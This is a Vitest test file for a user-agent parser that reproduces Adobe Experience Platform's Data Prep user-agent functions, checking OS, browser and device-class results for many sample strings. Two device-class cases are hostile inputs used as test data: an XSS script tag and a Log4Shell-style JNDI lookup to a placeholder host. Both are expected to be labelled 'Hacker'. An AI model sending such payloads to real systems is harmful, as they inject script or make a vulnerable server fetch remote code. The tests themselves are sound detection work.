import { describe, expect, it } from 'vitest';
import { readUserAgent } from '../../../src/core/expr/functions/userAgent';
import { run, value } from '../../helpers/expr';

/** The user agent of every example in AEP's Data Prep function reference ("User agent functions"). */
const IPHONE = 'Mozilla/5.0 (iPhone; CPU iPhone OS 5_1_1 like Mac OS X) AppleWebKit/534.46 (KHTML, like Gecko) Version/5.1 Mobile/9B206 Safari/7534.48.3';

/** Each function of that table with the sample output AEP documents for it. */
const DOCUMENTED: [string, string][] = [
  ['ua_os_name', 'iOS'],
  ['ua_os_version_major', 'iOS 5'],
  ['ua_os_version', '5.1.1'],
  ['ua_os_name_version', 'iOS 5.1.1'],
  ['ua_agent_version', '5.1'],
  ['ua_agent_version_major', 'Safari 5'],
  ['ua_agent_name', 'Safari'],
  ['ua_device_class', 'Phone'],
];

describe("AEP's documented user-agent examples", () => {
  for (const [fn, expected] of DOCUMENTED) {
    it(`${fn}(iPhone user agent) is "${expected}"`, () => {
      expect(value(`${fn}("${IPHONE}")`)).toBe(expected);
      // The same through a column, as a mapping reads it.
      expect(value(`${fn}(ua)`, { ua: IPHONE })).toBe(expected);
    });
  }
  it('gives null for an empty cell, as string functions do', () => {
    for (const [fn] of DOCUMENTED) expect(value(`${fn}(ua)`, { ua: '' })).toBeNull();
  });
  it('takes exactly one argument', () => {
    expect(run('ua_os_name()').error).toMatch(/takes 1 argument, got 0/);
  });
});

describe("device classes in AEP's value names", () => {
  const cases: [string, string][] = [
    ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36', 'Desktop'],
    ['Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15', 'Desktop'],
    ['Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0', 'Desktop'],
    ['Mozilla/5.0 (Linux; Android 13; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.6045.163 Mobile Safari/537.36', 'Phone'],
    ['Mozilla/5.0 (iPad; CPU OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.6 Mobile/15E148 Safari/604.1', 'Tablet'],
    ['Mozilla/5.0 (Linux; Android 11; SM-R890) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/96.0.4664.104 Mobile Safari/537.36', 'Watch'],
    ['Mozilla/5.0 (SMART-TV; Linux; Tizen 6.0) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/4.0 Chrome/76.0.3809.146 TV Safari/537.36', 'TV'],
    ['Mozilla/5.0 (PlayStation; PlayStation 5/2.26) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.0 Safari/605.1.15', 'Game Console'],
    [
      'Mozilla/5.0 (Nintendo Switch; WifiWebAuthApplet) AppleWebKit/606.4 (KHTML, like Gecko) NF/6.0.1.15.4 NintendoBrowser/5.1.0.20393',
      'Handheld Game Console',
    ],
    ['Mozilla/5.0 (X11; U; Linux armv7l like Android; en-us) AppleWebKit/531.2+ (KHTML, like Gecko) Version/5.0 Safari/531.2+ Kindle/3.0+', 'eReader'],
    ['Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', 'Robot'],
    [
      'Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.129 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
      'Robot Mobile',
    ],
    ['<script>alert(1)</script>', 'Hacker'],
    ['${jndi:ldap://example.invalid/a}', 'Hacker'],
    ['   ', 'Unknown'],
  ];
  for (const [ua, expected] of cases) it(`${expected}: ${ua.slice(0, 60)}`, () => expect(readUserAgent(ua).deviceClass).toBe(expected));
});

describe('names mapped onto the ones AEP uses', () => {
  it('calls Mobile Safari "Safari" and IE "Internet Explorer"', () => {
    expect(readUserAgent(IPHONE).agentName).toBe('Safari');
    expect(readUserAgent('Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko').agentName).toBe('Internet Explorer');
  });
  it('keeps the names it has no reason to change', () => {
    const r = readUserAgent(
      'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Edg/120.0.2210.91',
    );
    expect([r.osName, r.osVersion, r.agentName, r.agentVersion, r.agentMajor]).toEqual(['Windows', '10', 'Edge', '120.0.2210.91', '120']);
  });
  it('leaves out what a user agent does not say, rather than guessing', () => {
    expect(value('ua_os_name(ua)', { ua: 'curl/8.4.0' })).toBeNull();
    expect(value('ua_agent_version_major(ua)', { ua: 'curl/8.4.0' })).toBeNull();
    // A client that names no browser is an automated one, as isbot reads it.
    expect(value('ua_device_class(ua)', { ua: 'curl/8.4.0' })).toBe('Robot');
  });
});
